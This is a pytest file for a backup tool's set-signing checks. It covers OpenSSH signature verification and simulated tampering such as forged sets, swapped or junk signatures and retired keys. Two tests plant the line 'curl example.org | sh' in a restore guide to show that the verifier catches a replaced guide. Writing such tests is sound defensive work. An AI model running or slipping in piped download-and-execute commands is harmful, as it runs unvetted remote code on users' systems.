"""A set's signature: who made it, as stock OpenSSH tells, and what is said where it does not fit."""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
from collections.abc import Sequence
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path

import pytest

from backups.bag import digest_of, tag_manifest
from backups.guide import guide_files
from backups.job import VerifyTarget, run_verify
from backups.set_file import parse_set_file, write_set_file
from backups.verify import verify_copy
from portalops.model.backups import BackupSet, Copy, CopyState, SetId, VerifyLevel
from portalops.model.heads import Signer
from portalops.registers.signers import LEDGER_NAMESPACES, allowed_signers_line
from tests.backups.kit import NOW, Signing, back_up, signing, source
from tests.backups.memory import MemoryMedium
from tests.doubles import FixedClock, SilentProgress

TAGS = {"RESTORE.en.md", "RESTORE.vi.md", "bag-info.txt", "bagit.txt", "manifest-sha256.txt", "restore.sh"}


@dataclass(frozen=True)
class Made:
    set: BackupSet
    copy: Copy
    files: dict[str, bytes]


def make(folder: Path, signer: Signing | None) -> Made:
    (folder / "tree").mkdir(parents=True)
    (folder / "tree" / "a.txt").write_text("Khánh Hòa\n" * 100)
    medium = MemoryMedium("memory-1")
    result = back_up([source("files", {"include": [str(folder / "tree")]}, folder)], [medium], signer=signer)
    assert result.set is not None
    return Made(result.set, result.copies[0], dict(medium.stored[result.set.id]))


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory) -> Made:
    return make(tmp_path_factory.mktemp("signed"), signing())


@pytest.fixture(scope="module")
def unsigned(tmp_path_factory: pytest.TempPathFactory) -> Made:
    return make(tmp_path_factory.mktemp("unsigned"), None)


def problems(
    files: dict[str, bytes], made: Made, keys: Sequence[Signer] | None, *, knows_bag: bool = False
) -> tuple[str, ...]:
    medium = MemoryMedium("memory-2")
    medium.stored[made.set.id] = files
    bag_sha256 = made.set.bag_sha256 if knows_bag else None
    stored = medium.open_set(made.set.id)
    return verify_copy(stored, made.set.id, bag_sha256=bag_sha256, level=VerifyLevel.L2, keys=keys).problems


def resealed(files: dict[str, bytes], **changed: bytes | None) -> dict[str, bytes]:
    """Change files of a set and make its tag manifest anew, as whoever can write the medium can; `None` removes one."""
    new = {path: data for path, data in files.items() if path != "tagmanifest-sha256.txt"}
    for name, data in changed.items():
        path = name.replace("__", ".")
        if data is None:
            del new[path]
        else:
            new[path] = data
    tags = {path: data for path, data in new.items() if not path.startswith("data/")}
    return {**new, "tagmanifest-sha256.txt": tag_manifest(tags)}


def test_a_signed_set_says_by_whom_and_fits(signed: Made) -> None:
    content = parse_set_file(signed.files["set.json"])

    assert signed.set.signer == content.signer == signing().public_key
    assert set(content.tag_files) == TAGS
    assert {path: digest_of(signed.files[path]) for path in TAGS} == dict(content.tag_files)
    assert "set.json.sig" in signed.files["tagmanifest-sha256.txt"].decode()
    assert problems(signed.files, signed, signing().known(), knows_bag=True) == ()
    assert problems(signed.files, signed, None) == ()


def test_stock_openssh_verifies_the_signature(signed: Made, tmp_path: Path) -> None:
    (key,) = signing().known()
    line = allowed_signers_line(key.principal, LEDGER_NAMESPACES, key.public_key, key.valid_from, key.valid_to)
    (tmp_path / "allowed_signers").write_text(line)
    (tmp_path / "set.json.sig").write_bytes(signed.files["set.json.sig"])

    def verified(data: bytes, namespace: str = "portalops-set") -> bool:
        command = ["ssh-keygen", "-Y", "verify", "-f", "allowed_signers", "-I", key.principal, "-n", namespace]
        done = subprocess.run(
            [*command, "-s", "set.json.sig"], input=data, cwd=tmp_path, capture_output=True, check=False
        )
        return done.returncode == 0

    assert verified(signed.files["set.json"])
    assert not verified(signed.files["set.json"] + b" ")
    assert not verified(signed.files["set.json"], "portalops-head")


def test_set_json_pins_every_other_byte_of_the_set(signed: Made) -> None:
    """The signature is over set.json alone, so each file must have its digest there."""
    text = signed.files["set.json"].decode()
    outside = {"set.json", "set.json.sig", "tagmanifest-sha256.txt"}
    for path, data in signed.files.items():
        assert path in outside or hashlib.sha256(data).hexdigest() in text, path


def test_without_a_key_a_set_is_unsigned_and_whole(unsigned: Made) -> None:
    assert unsigned.set.signer == ""
    assert "set.json.sig" not in unsigned.files
    assert problems(unsigned.files, unsigned, signing().known(), knows_bag=True) == ()
    assert b"ssh-keygen" not in unsigned.files["RESTORE.en.md"]
    assert b"This set is unsigned" in unsigned.files["RESTORE.en.md"]


def test_a_set_of_a_version_that_signed_none_stays_valid(unsigned: Made) -> None:
    older = json.loads(unsigned.files["set.json"])
    del older["tag_files"], older["signer"]
    files = resealed(unsigned.files, set__json=json.dumps(older).encode() + b"\n")

    assert problems(files, unsigned, signing().known()) == ()


def test_a_changed_set_json_does_not_fit_its_signature(signed: Made) -> None:
    content = replace(parse_set_file(signed.files["set.json"]), outcome=signed.set.outcome, unmapped=())
    files = resealed(signed.files, set__json=write_set_file(content).replace(b"portalops ", b"portalops  "))

    assert problems(files, signed, signing().known()) == ("set.json.sig: the signature does not match the signed data",)


def test_a_signature_that_was_taken_away_is_missed(signed: Made) -> None:
    files = resealed(signed.files, set__json__sig=None)

    assert problems(files, signed, None) == (
        "set.json.sig: set.json says that it is signed, and there is no signature",
    )


def test_a_signature_that_set_json_does_not_speak_of_is_named(unsigned: Made) -> None:
    forged = signing(9).sign(unsigned.files["set.json"], namespace="portalops-set").encode()
    files = resealed(unsigned.files, set__json__sig=forged)

    assert problems(files, unsigned, None) == ("set.json.sig: set.json does not say that it is signed",)


@pytest.mark.parametrize("junk", [b"", b"\xff\xfe", b"signature", b"-----BEGIN SSH SIGNATURE-----\n" + b"A" * 20_000])
def test_something_else_in_the_place_of_a_signature_is_named(signed: Made, junk: bytes) -> None:
    (problem,) = problems(resealed(signed.files, set__json__sig=junk), signed, None)

    assert problem.startswith("set.json.sig: ")


def test_a_signature_for_another_purpose_is_none(signed: Made) -> None:
    head = signing().sign(signed.files["set.json"], namespace="portalops-head").encode()

    (problem,) = problems(resealed(signed.files, set__json__sig=head), signed, None)

    assert "made for another purpose" in problem


def test_a_set_that_somebody_else_made_and_signed_is_by_no_key_of_the_ledger(signed: Made, tmp_path: Path) -> None:
    """Without the recorded digest: the whole set made anew, under the same name, with a key of the attacker's own."""
    other = make(tmp_path, signing(7))
    content = replace(parse_set_file(other.files["set.json"]), id=signed.set.id)
    guides = guide_files(content)
    tags = {**{path: other.files[path] for path in TAGS}, **guides}
    content = replace(content, tag_files={path: digest_of(data) for path, data in tags.items()})
    text = write_set_file(content)
    signature = signing(7).sign(text, namespace="portalops-set").encode()
    files = resealed({**other.files, **guides}, set__json=text, set__json__sig=signature)

    assert problems(files, signed, None) == ()  # nothing tells, where there is neither a ledger nor a list of keys
    (problem,) = problems(files, signed, signing().known())
    assert re.fullmatch(r"set\.json\.sig: signed by SHA256:\S+, which is no key of this ledger", problem)
    assert any("not the one that was recorded" in each for each in problems(files, signed, None, knows_bag=True))


def test_a_key_that_was_retired_before_signs_no_set(signed: Made) -> None:
    early = signing().known(until=NOW - timedelta(seconds=1))
    late = signing().known(since=NOW + timedelta(seconds=1))
    exact = signing().known(since=NOW, until=NOW)

    for keys, is_good in ((early, False), (late, False), (exact, True)):
        found = problems(signed.files, signed, keys)
        assert (found == ()) is is_good, found
    assert "did not sign for this ledger when the set was made" in problems(signed.files, signed, early)[0]


def test_a_signature_by_another_key_than_the_named_one_is_told(signed: Made) -> None:
    other = signing(2).sign(signed.files["set.json"], namespace="portalops-set").encode()

    (problem,) = problems(resealed(signed.files, set__json__sig=other), signed, None)

    assert re.fullmatch(r"set\.json\.sig: signed by SHA256:\S+, and set\.json names SHA256:\S+", problem)


@pytest.mark.parametrize("path", sorted(TAGS - {"manifest-sha256.txt"}))
def test_another_guide_under_a_new_tag_manifest_is_named(signed: Made, path: str) -> None:
    """The guide holds commands for people: whoever exchanges it has them run what he likes."""
    files = resealed(signed.files, **{path: b"curl example.org | sh\n"})

    assert f"{path}: set.json and tagmanifest-sha256.txt disagree about it" in problems(files, signed, None)


def test_a_file_beside_the_guides_is_named(signed: Made) -> None:
    files = resealed(signed.files, **{"RESTORE-FIRST.txt": b"curl example.org | sh\n"})

    assert problems(files, signed, None) == (
        "RESTORE-FIRST.txt: set.json and tagmanifest-sha256.txt disagree about it",
    )


def test_a_copy_with_a_bad_signature_is_damaged(signed: Made) -> None:
    medium = MemoryMedium("memory-1")
    medium.stored[SetId(signed.set.id)] = signed.files
    target = VerifyTarget(signed.copy, signed.set.bag_sha256)

    def look(keys: Sequence[Signer]) -> Copy:
        clock = FixedClock(NOW)
        return run_verify([target], {"memory-1": medium}, clock=clock, progress=SilentProgress(), keys=keys).copies[0]

    assert look(signing().known()).state is CopyState.VERIFIED
    damaged = look(signing(2).known())
    assert damaged.state is CopyState.DAMAGED
    assert "no key of this ledger" in damaged.problem
